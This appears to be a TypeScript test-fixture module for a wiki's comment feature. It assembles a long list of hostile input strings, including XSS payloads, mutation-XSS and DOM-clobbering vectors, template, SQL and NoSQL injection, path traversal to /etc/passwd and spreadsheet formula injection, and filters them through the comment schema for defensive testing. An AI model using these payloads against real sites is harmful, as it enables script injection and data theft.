import { documentOf } from '@wiki/domain';
import { addDiscussionCommentSchema } from '@wiki/domain/schemas';
import naughtyStrings from 'big-list-of-naughty-strings' with { type: 'json' };
import sanitizerVectors from 'dompurify-vectors/test/fixtures/expect.js';

/** What tries to become a script, a link or a layout of its own: a line is a text. Written for this project. */
const vectors = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=//x.example/x.js></SCRIPT>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><svg onload=alert(1)>
<img src=x onerror=alert(1)>
<img src="x:gif" onerror="alert(1)">
<img/src/onerror=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=javascript:alert(1)>
<object data="data:text/html,<script>alert(1)</script>">
<embed src="javascript:alert(1)">
<a href="javascript:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<form action=javascript:alert(1)><input type=submit>
<button formaction=javascript:alert(1)>x</button>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<body onload=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<style>@import 'javascript:alert(1)';</style>
<div style="background:url(javascript:alert(1))">
<base href="javascript:alert(1)//">
<link rel=stylesheet href="javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
" autofocus onfocus=alert(1) x="
' onmouseover='alert(1)
javascript:alert(1)
JaVaScRiPt:alert(document.cookie)
{{constructor.constructor('alert(1)')()}}
\${alert(1)}
<%= 7 * 7 %>
#{7*7}
[x](javascript:alert(1))
![x](x" onerror="alert(1))
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;b&amp;gt;
&#60;img src=x onerror=alert(1)&#62;
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
__proto__
constructor
{"$gt": ""}
{"$where": "sleep(1000)"}
'; DROP TABLE users; --
1; return true
../../../../etc/passwd
=cmd|' /C calc'!A0
+SUM(1+1)*cmd|' /C calc'!A0
null
undefined
NaN
true
0
-1
1e309
٠١٢٣٤٥٦٧٨٩
ﾟ･✿ヾ╲(｡◕‿◕｡)╱✿･ﾟ
ÅÍÎÏ˝ÓÔÒÚÆ☃
田中さんにあげて下さい
בְּרֵאשִׁית, בָּרָא אֱלֹהִים
مُنَاقَشَةُ سُبُلِ اِسْتِخْدَامِ اللُّغَةِ
👩🏽‍🌾👨‍👩‍👧‍👦🏳️‍🌈 🇨🇴
Ṱ̺̺o͞ ̷i̲̬n̝̗v̟̜o̘̙k̪̗e̤̜
ﷺ
<math><annotation-xml encoding="text/html"><p><style><img src onerror=alert(1)></style></annotation-xml></math>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><desc><noscript><img src=x onerror=alert(1)></noscript></desc></svg>
<svg><foreignObject><iframe srcdoc="x" onload=alert(1)></iframe></foreignObject></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><style><!--</style><img src=x onerror=alert(1)>--></svg>
<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>
<svg><set attributeName=onmouseover to=alert(1)></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=alert(1) /></svg>#x" />
<svg><image href=x onerror=alert(1)></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>
<math><mi><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mi></math>
<math><maction actiontype="statusline#http://x.example" xlink:href="javascript:alert(1)">x</maction></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<table><td><noembed><img title="</noembed><img src=x onerror=alert(1)>"></td></table>
<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>
<noframes><p title="</noframes><img src=x onerror=alert(1)>">
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">
<option><style></option></select><b><img src=x onerror=alert(1)></style></option>
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<a id=x name=y href=1></a><a id=x name=z href=2></a>
<form id=document><input name=cookie><input name=body></form>
<form><input name=attributes><input name=nodeName><input name=parentNode></form>
<img name=getElementById><img name=createElement>
<form name=implementation><input name=createHTMLDocument></form>
<a href="#" name="__proto__" id="constructor">x</a>
<input type=image src=x onerror=alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<keygen autofocus onfocus=alert(1)>
<frameset onload=alert(1)></frameset>
<layer src="javascript:alert(1)"></layer>
<bgsound src="javascript:alert(1)">
<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">
<img src="x <script>alert(1)</script>" >
<img src=x:alert(alt) onerror=eval(src) alt=0>
<img srcset="x 1x, javascript:alert(1) 2x" onerror=alert(1)>
<img/alt="/"src="/"onerror=alert(1)>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<<SCRIPT>alert(1);//<</SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/xss>alert(1)</script/xss>
<script>alert(1)//
<script src=data:,alert(1)></script>
<script type=module>import('data:text/javascript,alert(1)')</script>
<script>/*<!--*/alert(1)</script>
<!-- sample --!><img src=x onerror=alert(1)>
<!--<img src="--><img src=x onerror=alert(1)//">
<? foo="><script>alert(1)</script>">
<! foo="><script>alert(1)</script>">
</ foo="><script>alert(1)</script>">
<% foo><x foo="%><script>alert(1)</script>">
<a/onmouseover=alert(1)>x
<x contenteditable onblur=alert(1)>x</x>
<x onclick=alert(1) tabindex=0 id=x autofocus onfocus=alert(1)>x
<div draggable ondragstart=alert(1)>x</div>
<div popover onbeforetoggle=alert(1) id=p></div><button popovertarget=p>x</button>
<dialog open oncancel=alert(1)>x</dialog>
<style>*{x:expression(alert(1))}</style>
<style>@keyframes x{}</style><p style="animation:x" onanimationstart=alert(1)>x</p>
<p style="-moz-binding:url(//x.example/x.xml#x);behavior:url(x.htc)">x</p>
<p style="color:red;position:fixed;inset:0;z-index:99999">x</p>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=preload as=script href=//x.example onload=alert(1)>
<meta charset="mac-farsi">¼script¾alert(1)¼/script¾
<meta http-equiv=Content-Security-Policy content="script-src *">
<base target="<img src=x onerror=alert(1)>">
<applet code="javascript:alert(1)">
<param name=url value="javascript:alert(1)">
<portal src="javascript:alert(1)" onload=alert(1)>
<slot onslotchange=alert(1)><template shadowrootmode=open><script>alert(1)</script></template>
<custom-element onconnected=alert(1) is="x-y">x</custom-element>
<a href="javas&Tab;cri&NewLine;pt:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;cript:alert(1)">x</a>
<a href="\u006Aavascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="blob:https://x.example/1">x</a>
<a href="//x.example" target=_blank rel=opener>x</a>
<a href="https://user:pass@x.example">x</a>
<a ping="//x.example" href="/">x</a>
<area href=javascript:alert(1) shape=default>
<form><button formaction="data:text/html,<script>alert(1)</script>">x</button></form>
<output name=x onforminput=alert(1)>x</output>
<video poster=javascript:alert(1) oncanplay=alert(1)></video>
<track kind=subtitles src=x onerror=alert(1)>
<img usemap=#x><map name=x><area href=javascript:alert(1)></map>
<object type="text/x-scriptlet" data="//x.example"></object>
<embed code="//x.example/x.swf" allowscriptaccess=always>
\${{7*7}}
{{$on.constructor('alert(1)')()}}
{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//')}}
<div v-html="'<img src=x onerror=alert(1)>'"></div>
<div ng-app ng-csp><input ng-focus=$event.view.alert(1)></div>
<p data-bind="html:'<img src=x onerror=alert(1)>'"></p>
@import url(//x.example);}*{background:red}
*/alert(1)/*
//--></script><script>alert(1)</script>
\";alert(1);//
\x3cscript\x3ealert(1)\x3c/script\x3e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
%00%3Cscript%3Ealert(1)%3C/script%3E
＜script＞alert(1)＜/script＞
‹script›alert(1)‹/script›
[x]: javascript:alert(1) "x"
<javascript:alert(1)>
<https://x.example/" onmouseover="alert(1)>
BEGIN:VCARD
=HYPERLINK("//x.example","x")
@SUM(1+1)
Subject: x
`;

/**
 * The vectors that DOMPurify publishes, each in one line: the last version whose package has them is
 * installed as `dompurify-vectors`, and nothing of it but these is ever read.
 */
const sanitizerTexts = sanitizerVectors.map(({ payload }) => payload.replaceAll(/\s*\n\s*/g, ' '));

/** Each text, once. */
export const hostileTexts: readonly string[] = [
  ...new Set([...vectors.trim().split('\n'), ...sanitizerTexts]),
];

/** The same and those of the big list of naughty strings, as far as they say anything. */
export const naughtyTexts: readonly string[] = [
  ...new Set([...hostileTexts, ...naughtyStrings.map((text) => text.trim())]),
].filter(Boolean);

const isAccepted = (text: string): boolean =>
  addDiscussionCommentSchema.safeParse({
    discussionId: 'any',
    body: documentOf(text),
    language: 'en',
  }).success;

/** Those that somebody may write: not what cannot be stored, or reaches over what stands around it. */
export const acceptedTexts: readonly string[] = naughtyTexts.filter(isAccepted);

/** Texts in parts of up to so many characters together, a few between two texts counted in. */
export function inParts(texts: readonly string[], most: number): string[][] {
  const parts: string[][] = [];
  let size = Infinity;
  for (const text of texts) {
    size += text.length + 2;
    if (size > most) {
      parts.push([]);
      size = text.length + 2;
    }
    parts.at(-1)?.push(text);
  }
  return parts;
}
